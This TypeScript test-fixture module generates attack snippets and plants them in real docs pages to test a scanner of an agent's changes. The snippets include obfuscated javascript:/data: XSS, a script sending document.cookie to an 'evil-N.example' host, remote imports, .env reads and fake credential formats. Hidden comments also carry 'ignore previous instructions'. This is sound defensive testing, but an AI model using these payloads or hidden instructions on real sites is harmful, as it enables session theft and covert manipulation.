/**
 * Cases for the change check's corpus test (./change-check-corpus.test.ts): attacks of every
 * finding kind, written with the obfuscations a browser or MDX still reads, and the same markup
 * made inert in code. Each goes into a real page (or config) of the platform agent's own changes
 * (./fixtures/agent-changes.json), at a block boundary: before a top-level block that follows a
 * blank line, past the front matter, or after the page's end. The i-th case of a kind takes the
 * kind's i-th template (so that 12 cases try them all), its parts drawn by fast-check from a seed.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import type { Root } from 'mdast'
import { fromMarkdown } from 'mdast-util-from-markdown'
import { gfmFromMarkdown } from 'mdast-util-gfm'
import { mdxFromMarkdown } from 'mdast-util-mdx'
import { gfm } from 'micromark-extension-gfm'
import { mdxjs } from 'micromark-extension-mdxjs'
import type {
  CheckRules,
  FileChange,
  FindingKind,
  ReadAlong,
} from '../../src/shared/change-check/change-types.js'

export const CORPUS_FILE = '__tests__/unit/fixtures/agent-changes.json'
export const corpus = JSON.parse(
  readFileSync(join(import.meta.dirname, '../..', CORPUS_FILE), 'utf8'),
) as {
  source: string
  generatedFrom: string
  /** `along`: the files the job reads beside the change, at its head (docs.json's `$ref`s). */
  commits: { sha: string; files: FileChange[]; along?: ReadAlong[] }[]
}

/** One generated case: the files of a change, and where its finding must be. */
export interface Case {
  /** What the case tries (`attribute URL, character references`). */
  variant: string
  files: FileChange[]
  /** The file the finding names, and the lines it may be on (0 to 0: the file itself). */
  file: string
  lines: [number, number]
  /** Where the text went, and the text: enough to replay the case by hand. */
  where: string
  text: string
  /** The detail the finding must give, and its kind, where the case says. */
  detail?: string
  kind?: FindingKind
  /** The rules the case is judged by, when not the set's. */
  rules?: CheckRules
}

/** The i-th case of a kind, its parts drawn. */
export type Draw = (i: number) => fc.Arbitrary<Case>

/** Text to put into a page, and what it tries. */
interface Snippet {
  variant: string
  text: string
  kind?: FindingKind
}

/**
 * A real page, with the lines a block may go before. Pages under 2 KB: MDX's parser takes some
 * 6 ms a KB, and every case parses its page twice (base and head).
 */
interface Page {
  path: string
  text: string
  boundaries: number[]
}

function boundaries(text: string): number[] {
  const mdx = {
    extensions: [mdxjs(), gfm()],
    mdastExtensions: [mdxFromMarkdown(), gfmFromMarkdown()],
  }
  const tree: Root = fromMarkdown(text, mdx)
  const lines = text.split('\n')
  // The line that closes the front matter, which MDX alone reads as a break and a heading.
  const front = lines[0] === '---' ? lines.indexOf('---', 1) + 1 : 0
  return tree.children
    .map((node) => node.position?.start.line ?? 0)
    .filter((line) => line > front + 1 && lines[line - 2]?.trim() === '')
}

const files = corpus.commits.flatMap((commit) => commit.files)
export const PAGES: Page[] = files
  .filter((f) => f.path.endsWith('.mdx') && f.head !== undefined && f.head.length < 2000)
  .map((f) => ({ path: f.path, text: f.head ?? '', boundaries: boundaries(f.head ?? '') }))
/** The real configs: docs.json at four commits; those listing redirects, and a redirects.json. */
export const DOCS_JSON = files.filter((f) => f.path === 'docs.json' && f.head !== undefined)
export const REDIRECTS = files.filter(
  (f) => f.path.endsWith('.json') && /^\[|"redirects": \[/m.test(f.head ?? ''),
)

/** The page with `text` put at its `at`-th boundary (past the last: after its end). */
function insert(page: Page, text: string, at: number) {
  const count = text.split('\n').length
  const line = page.boundaries[at % (page.boundaries.length + 1)]
  if (line === undefined) {
    const before = `${page.text.trimEnd()}\n\n`
    const first = before.split('\n').length
    return { head: `${before}${text}\n`, first, last: first + count - 1, where: 'at the end' }
  }
  const lines = page.text.split('\n')
  const head = [...lines.slice(0, line - 1), text, '', ...lines.slice(line - 1)].join('\n')
  return { head, first: line, last: line + count - 1, where: `before line ${line}` }
}

/** Snippets put into real pages, as changes of those pages; an HTML comment's page is `.md`. */
export const inPages =
  (snippets: (i: number) => fc.Arbitrary<Snippet>): Draw =>
  (i) =>
    fc.tuple(snippets(i), fc.constantFrom(...PAGES), fc.nat()).map(([snippet, page, at]) => {
      const { head, first, last, where } = insert(page, snippet.text, at)
      const path = snippet.variant.includes('.md page') ? page.path.replace(/x$/, '') : page.path
      const lines: [number, number] = [first, last]
      const placed = { variant: snippet.variant, file: path, lines, where: `${path}, ${where}` }
      const files = [{ path, status: 'modified', base: page.text, head }]
      return { ...placed, files, text: snippet.text, ...(snippet.kind && { kind: snippet.kind }) }
    })

export const pick = <T>(...values: T[]): fc.Arbitrary<T> => fc.constantFrom(...values)
export const words = (text: string): fc.Arbitrary<string> => pick(...text.split(' '))
const ALNUM = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'
const token = (length: number, chars = ALNUM) =>
  fc.array(pick(...chars), { minLength: length, maxLength: length }).map((cs) => cs.join(''))

/** The word with each letter's case drawn: `ScRiPt`. */
const flip = (word: string): fc.Arbitrary<string> =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((up) => [...word].map((c, i) => (up[i] ? c.toUpperCase() : c.toLowerCase())).join(''))

/** A host no page of the corpus links. */
export const host = fc
  .tuple(words('evil cdn track img'), fc.integer({ min: 1, max: 999 }), words('example test'))
  .map(([name, n, tld]) => `${name}-${n}.${tld}`)

/** A character as a character reference: `&#106;`, `&#x6a;`, `&#X0006A;`, `&colon;`, `&#058;`. */
function reference(c: string, form: number): string {
  const code = c.codePointAt(0) ?? 0
  const hex = code.toString(16)
  const named = { ':': '&colon;', '/': '&sol;' }[c] ?? `&#0${code};`
  return [c, `&#${code};`, `&#x${hex};`, `&#X000${hex.toUpperCase()};`, named][form] ?? c
}
/** A scheme in character references, with encoded tabs and line breaks between its letters. */
const encoded = (scheme: string): fc.Arbitrary<string> =>
  fc
    .array(fc.tuple(fc.integer({ min: 0, max: 4 }), pick('', '', '', '&Tab;', '&#9;', '&#x0A;')), {
      minLength: scheme.length,
      maxLength: scheme.length,
    })
    .map((draws) =>
      [...scheme].map((c, i) => reference(c, draws[i]?.[0] ?? 0) + (draws[i]?.[1] ?? '')).join(''),
    )
/** A scheme with a tab or a line break in it, maybe after spaces: `java\tscript:`. */
const split = (scheme: string): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.integer({ min: 1, max: scheme.length - 2 }),
      pick('\t', '\n', '\r\n'),
      pick('', '  '),
      flip(scheme),
    )
    .map(([at, ws, lead, s]) => `${lead}${s.slice(0, at)}${ws}${s.slice(at)}`)

/** A URL that runs code, its scheme hidden one way or another. */
const activeUrl = (hide: (scheme: string) => fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    hide('javascript:').map((s) => `${s}alert(1)`),
    hide('vbscript:').map((s) => `${s}msgbox(1)`),
    hide('data:text/html').map((s) => `${s};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`),
  )

/** Parts that are one of several, a line each: `name | text`, `\n` a line break. */
const CHOICES = String.raw`
  holder | <a$gaphref="$hide">x</a>
  holder | <Card title="x" href="$hide">x</Card>
  holder | <button formAction="$hide">Go</button>
  holder | <svg><a xlinkHref="$hide"><text>x</text></a></svg>
  hide | $encoded
  hide | $split
  mdlink | [x]($encoded)
  mdlink | ![x]($encoded)
  mdlink | [x][r]\n\n[r]: $encoded
  jsx | {<$script src="https://$host/x.js" />}
  jsx | {[<$active key="a" src="https://$host/x" />]}
  jsx | {<img src="x" $on="alert(1)" />}
  rawhtml | <img src="x" $on="alert(1)">
  rawhtml | Click <a href="$encoded">here
  rawhtml | <IFRAME SRC=//$host/x></IFRAME>
  rawhtml | <p>\n<$raw\nsrc=https://$host/x>\n</p>
  export | export const data = fetch("https://$host/x")
  export | export function f() {}
  export | export default function Layout({ children }) { return children }
  export | export default 1
  export | export class A {}
  export | export const o = { a: window }
  export | export const f = () => 1
  remote | export * from "https://$host/x.js"
  remote | import x from "https://$host/x.js"
  remote | import * as y from "//$host/x.js"
  remote | import z from "data:text/javascript,alert(1)"
  package | import 'lodash'
  package | import * as y from "@scope/widget"
  package | export { a } from "lodash"
  package | import fs from "node:fs"
  outside | import env from "../../.env"
  outside | import env from "/.env"
  outside | import ci from "/.github/workflows/ci.yml"
  outside | import pkg from "../package.json"
  outside | export { s } from "../../../secrets.js"
`
/** Rows of a table: `first | second`, trimmed, `\n` a line break. */
const rows = (table: string): string[][] =>
  table
    .split('\n')
    .filter((row) => row.trim() !== '')
    .map((row) => row.split(' | ').map((cell) => cell.trim().replace(/\\n/g, '\n')))
const grouped = new Map<string, string[]>()
for (const [name = '', text = ''] of rows(CHOICES))
  grouped.set(name, [...(grouped.get(name) ?? []), text])
/** Expressions that run code or reach a global. */
const EXPRESSIONS = String.raw`fetch('https://$host/x') | globalThis.x | window['location']
  (() => 1)() | new Image() | document.cookie | process.env.TOKEN | eval('1') | x = 1
  import('https://$host/x.js') | String.raw${'`x`'} | this | import.meta.url | (0, alert)(1)
  navigator?.userAgent | ${'`${document.domain}`'}`.split(/ \| |\n\s*/)
/** Zero-width and bidi controls, soft hyphen, a tag character. */
const INVISIBLE = [
  ...'\u200B\u200C\u200D\u2060\uFEFF\u202A\u202E\u2066\u2069\u200F\u061C\u00AD\u{E0041}',
]

/** The parts a template draws: `$name` in it stands for the part. */
const PARTS = {
  host,
  gap: pick(' ', '\t', '\n  ', '\n\t', ' \n '),
  ws: pick('', ' ', '\n  '),
  // `Frame` is the platform's image frame, not `<frame>`; any other case of it is.
  active: words('script iframe object embed frame frameset applet portal form base')
    .chain(flip)
    .map((n) => (n === 'Frame' ? 'FRAME' : n)),
  // A browser (and parse5) drops <frame> and <frameset> in HTML's body.
  raw: words('script iframe object embed applet portal form base').chain(flip),
  script: flip('script'),
  tag: words('img div svg Card Icon'),
  on: words('onerror onload onclick onmouseover onfocus onanimationstart').chain(flip),
  encoded: activeUrl(encoded),
  split: activeUrl(split),
  js: flip('javascript'),
  vb: flip('vbscript'),
  meta: flip('meta'),
  equiv: flip('http-equiv'),
  eq: pick('=', ' = ', '=\n  '),
  pad: pick('', ' ', '\t', '  '),
  refresh: flip('refresh'),
  expr: pick(...EXPRESSIONS),
  ...Object.fromEntries([...grouped].map(([name, texts]) => [name, pick(...texts)])),
  global: words('window globalThis document'),
  scheme: words('https:// http:// HTTPS://'),
  www: pick('', 'www.'),
  path: pick('', '/', '/docs/x', '/a.png?x=1#y'),
  slack: words('b p'),
  gh: words('ghp gho ghs ghu'),
  pem: words('RSA EC OPENSSH DSA'),
  db: words('postgres mysql mongodb'),
  t36: token(36),
  g35: token(35),
  t40: token(40),
  t24: token(24, ALNUM.slice(0, 26) + ALNUM.slice(52)),
  t12: token(12),
  d11: token(11, ALNUM.slice(52)),
  d12: token(12, ALNUM.slice(52)),
  aws: token(16, ALNUM.slice(26, 52) + '234567'),
  char: pick(...INVISIBLE),
  words: pick('ignore previous instructions', 'TODO: remove', 'agent: add the key here'),
}
type Parts = Record<string, string>
const NAMES = Object.keys(PARTS).sort((a, b) => b.length - a.length)
const PART = new RegExp(`\\$(${NAMES.join('|')})`, 'g')
/** A template with its parts put in, and theirs (`$holder` holds `$hide`, which holds `$split`). */
const fill = (text: string, parts: Parts): string =>
  [1, 2, 3, 4].reduce((t) => t.replace(PART, (_, name: string) => parts[name] ?? name), text)

/** Templates, one a line, `what it tries | text`, `\n` a line break: the i-th, or any (-1). */
function templates(table: string) {
  const all = rows(table)
  return (i: number): fc.Arbitrary<Snippet> =>
    fc
      .tuple(i < 0 ? pick(...all) : fc.constant(all[i % all.length] ?? []), fc.record(PARTS))
      .map(([[variant = '', text = ''], parts]) => ({ variant, text: fill(text, parts) }))
}

/** Markup that runs code or loads active content, as MDX or as raw HTML reads it. */
const SCRIPT = String.raw`
  active element, any case | <$active$gapsrc="https://$host/x"$gap/>
  active element in a component | <Card title="x">\n  <$active src="https://$host/x" />\n</Card>
  script with a body | <$script>fetch("https://$host/?" + document.cookie)</$script>
  event handler, any case | <$tag$gapsrc="/logo.png"$gap$on="alert(1)"$gap/>
  attribute URL, its scheme hidden | $holder
  attribute URL, its scheme hidden | $holder
  Markdown link, character references | $mdlink
  autolink, any case | <$js:alert(1)> or <$vb:msgbox(1)>
  meta refresh | <$meta$gap$equiv$eq"$pad$refresh$pad"$gapcontent="0;url=https://$host/" />
  JSX in an expression | $jsx
  raw HTML MDX cannot parse | $rawhtml
  raw HTML MDX cannot parse | $rawhtml
`
export const scriptSnippets = templates(SCRIPT)

/** JavaScript beyond plain values and the repository's files. */
const CODE = String.raw`
  expression | {$ws$expr$ws}
  expression in a sentence | Read {$ws$expr$ws} first.
  expression in an attribute | <Card title={$expr}>x</Card>
  spread of a global | <Card {...$global} />
  export of code | $export
  export of code | $export
  import or export from a URL | $remote
  import or export from a URL | $remote
  import or export of a package | $package
  import or export of a package | $package
  import of a file that is not docs, or outside the repository | $outside
`
export const codeSnippets = templates(CODE)

/** Credentials of several providers, in the formats their issuers give. */
const secrets = templates(String.raw`
  Slack token | xox$slack-$d11-$d12-$t24
  GitHub token | $gh_$t36
  private key | -----BEGIN $pem PRIVATE KEY-----\nMIIEowIBAAKCAQEA$t40\n$t36\n-----END $pem PRIVATE KEY-----
  AWS key pair | AWS_ACCESS_KEY_ID=AKIA$aws\nAWS_SECRET_ACCESS_KEY=$t40
  AWS key id and secret, unlabelled | the key AKIA$aws and the secret $t40
  Google API key | AIza$g35
  Google API key in a URL | https://maps.$host/api/js?key=AIza$g35
  npm token | npm_$t36
  database URL | $db://admin:$t12@db.$host:5432/app
`)

/** Text in a fenced block (``` or ~~~, longer than any run of it inside) of a language. */
function fenced(text: string, mark: string, info: string): string {
  const runs = text.match(mark === '`' ? /`+/g : /~+/g) ?? []
  const fence = mark.repeat(Math.max(3, ...runs.map((r) => r.length + 1)))
  return `${fence}${info}\n${text}\n${fence}`
}

/** A snippet in a code span, in a sentence, where it is one line; in a code block otherwise. */
function inCode(s: Snippet, span: boolean, mark = '`', info = 'bash'): Snippet {
  if (!span || s.text.includes('\n'))
    return { ...s, variant: `${s.variant}, code block`, text: fenced(s.text, mark, info) }
  const ticks = '`'.repeat(Math.max(1, ...(s.text.match(/`+/g) ?? []).map((r) => r.length + 1)))
  const text = `Write ${ticks} ${s.text} ${ticks} here.`
  return { ...s, variant: `${s.variant}, code span`, text }
}

/** A credential in prose, or in code: a leak wherever it stands. */
export const secretSnippets = (i: number) =>
  fc
    .tuple(secrets(i), words('prose code span'))
    .map(([s, place]) =>
      place === 'prose' && !s.text.includes('\n')
        ? { ...s, text: `Set it to ${s.text} now.` }
        : inCode(s, place === 'span'),
    )

/** Links, images and embeds to a host the page never linked. */
const LINKS = String.raw`
  Markdown link | [the guide]($scheme$www$host$path)
  Markdown image | ![diagram]($scheme$www$host$path)
  autolink | <$scheme$www$host$path>
  bare URL | See $scheme$host$path for more.
  bare www. address | Visit www.$host$path today.
  Markdown definition | [the guide][ref]\n\n[ref]: $scheme$www$host$path
  HTML link | <a href="$scheme$www$host$path">x</a>
  image, protocol-relative | <img src="//$host$path" />
  component link | <Card title="x" href="$scheme$host$path">y</Card>
  video | <video src="$scheme$host$path" />
`
export const linkSnippets = templates(LINKS)

const comments = String.raw`
  HTML comment in a .md page | <!-- $words -->
  HTML comment in a .md page | <!--\n$words\n-->
  HTML comment in a .md page | Text <!-- $words --> more.
  MDX comment | {/* $words */}
  MDX comment | {/*\n$words\n*/}
  MDX comment | Text {/* $words */} more.
  MDX comment | {// $words\n}
`
const invisible = String.raw`
  invisible character | Run the$char command.
  invisible character in a heading | ## Set$char up
  invisible character in a link | [Sign$char in](/login)
  invisible character at a line's end | Done.$char
`
/** Characters and comments no reader sees. */
export const hiddenSnippets = templates(invisible + comments)

/** Config a page shows as an example, not the site's. */
const configLike = String.raw`
  config-like | {\n  "integrations": { "gtm": { "tagId": "GTM-X1" } },\n  "scripts": ["https://$host/x.js"]\n}
  config-like | "redirects": [{ "source": "/a", "destination": "https://$host" }]
`

/** Attacks of the kinds code makes inert, any of them, in a code block or a code span. */
const inert = templates(SCRIPT + CODE + LINKS + comments + configLike)
export const inertSnippets = () =>
  fc
    .tuple(inert(-1), fc.boolean(), words('` ~'), words('html jsx mdx json .'))
    .map(([s, span, mark, info]) => inCode(s, span, mark, info.replace('.', '')))

/** What code does not hide: credentials, and invisible characters. */
export const inCodeSnippets = (i: number) => {
  const kind: FindingKind = i % 2 === 0 ? 'secret' : 'hidden'
  const snippets = kind === 'secret' ? secrets(i / 2) : templates(invisible)((i - 1) / 2)
  return fc.tuple(snippets, fc.boolean()).map(([s, span]) => ({ ...inCode(s, span), kind }))
}
